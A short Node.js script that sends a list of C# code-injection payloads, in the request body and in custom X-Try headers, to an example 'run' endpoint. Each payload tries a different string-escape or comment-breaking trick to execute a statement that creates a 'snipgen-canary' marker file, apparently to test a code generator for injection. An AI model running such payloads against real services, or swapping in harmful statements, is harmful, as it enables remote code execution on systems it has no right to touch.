import { once } from "node:events";
import https from "node:https";
import { text } from "node:stream/consumers";

const body = `{System.IO.File.Create("snipgen-canary")}
{{System.IO.File.Create("snipgen-canary")}}
"+System.IO.File.Create("snipgen-canary")+"
""+System.IO.File.Create("snipgen-canary")+""
"""+System.IO.File.Create("snipgen-canary")+"""
\\"+System.IO.File.Create("snipgen-canary")+\\"
\\\\"+System.IO.File.Create("snipgen-canary")+\\\\"
@"\\"+System.IO.File.Create("snipgen-canary")+"
$"{System.IO.File.Create("snipgen-canary")}"
{0} {x:System.IO.File.Create("snipgen-canary")} {
}
\\u0022+System.IO.File.Create("snipgen-canary")+\\u0022
*/System.IO.File.Create("snipgen-canary");/*
\x85System.IO.File.Create("snipgen-canary");//
\u2028System.IO.File.Create("snipgen-canary");\u2029//
"
#line 1
System.IO.File.Create("snipgen-canary");//
\\`;

const request = https.request("https://api.example.com/run", {
  method: "POST",
  headers: {
    "X-Try-1": "{System.IO.File.Create(\"snipgen-canary\")}",
    "X-Try-2": "{{System.IO.File.Create(\"snipgen-canary\")}}",
    "X-Try-3": "\"+System.IO.File.Create(\"snipgen-canary\")+\"",
    "X-Try-4": "\"\"+System.IO.File.Create(\"snipgen-canary\")+\"\"",
    "X-Try-5": "\"\"\"+System.IO.File.Create(\"snipgen-canary\")+\"\"\"",
    "X-Try-6": "\\\"+System.IO.File.Create(\"snipgen-canary\")+\\\"",
    "X-Try-7": "\\\\\"+System.IO.File.Create(\"snipgen-canary\")+\\\\\"",
    "X-Try-8": "@\"\\\"+System.IO.File.Create(\"snipgen-canary\")+\"",
    "X-Try-9": "$\"{System.IO.File.Create(\"snipgen-canary\")}\"",
    "X-Try-10": "{0} {x:System.IO.File.Create(\"snipgen-canary\")} {",
    "X-Try-11": "}",
    "X-Try-12": "\\u0022+System.IO.File.Create(\"snipgen-canary\")+\\u0022",
    "X-Try-13": "*/System.IO.File.Create(\"snipgen-canary\");/*",
    "X-Try-14": "Â\x85System.IO.File.Create(\"snipgen-canary\");//",
    "X-Try-15": "â\x80¨System.IO.File.Create(\"snipgen-canary\");â\x80©//",
    "X-Try-17": "\\",
    "Content-Type": "text/plain",
  },
});
// With text, Node.js would send the headers as UTF-8, too.
request.end(Buffer.from(body));

const [response] = await once(request, "response");
console.log(await text(response));
